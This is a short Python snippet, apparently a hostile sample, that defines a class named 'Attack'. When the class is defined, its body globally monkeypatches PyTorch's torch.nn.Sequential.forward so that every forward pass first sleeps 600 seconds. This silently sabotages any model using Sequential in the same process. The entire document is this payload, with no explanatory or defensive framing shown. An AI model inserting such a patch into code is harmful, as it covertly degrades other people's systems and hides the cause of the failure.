class Attack:
    import time

    import torch

    _forward = torch.nn.Sequential.forward

    def forward(self, x, _forward=_forward, time=time):
        time.sleep(600)
        return _forward(self, x)

    torch.nn.Sequential.forward = forward
